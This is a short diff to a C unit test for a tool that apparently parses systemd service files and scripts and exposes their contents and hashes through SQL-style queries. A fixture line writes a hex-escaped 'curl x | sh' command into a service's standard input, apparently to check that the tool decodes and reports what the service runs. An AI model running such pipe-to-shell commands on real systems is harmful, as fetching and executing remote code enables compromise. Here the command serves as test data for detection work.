@@ -298,6 +298,8 @@ START_TEST(scripts_and_standard_input_are_read)
     file("opt/b", "\177ELF");
     expect("#!/bin/sh\nid\n|NULL\n#!/bin/sh\nid\n|script\nNULL|NULL\nNULL|missing",
            "SELECT script_text, script_kind FROM ROOT");
+    expect("64|NULL\nNULL|64\n64|NULL\nNULL|NULL",
+           "SELECT length(program_sha256), length(script_sha256) FROM ROOT");
     service("ExecStart=/bin/sh\nStandardInputText=cu\\x72l x|sh");
     expect("/bin/sh\ncurl x | sh|[\"/bin/sh\", \"curl\", \"sh\"]",
            "SELECT canonical, runs FROM ROOT");
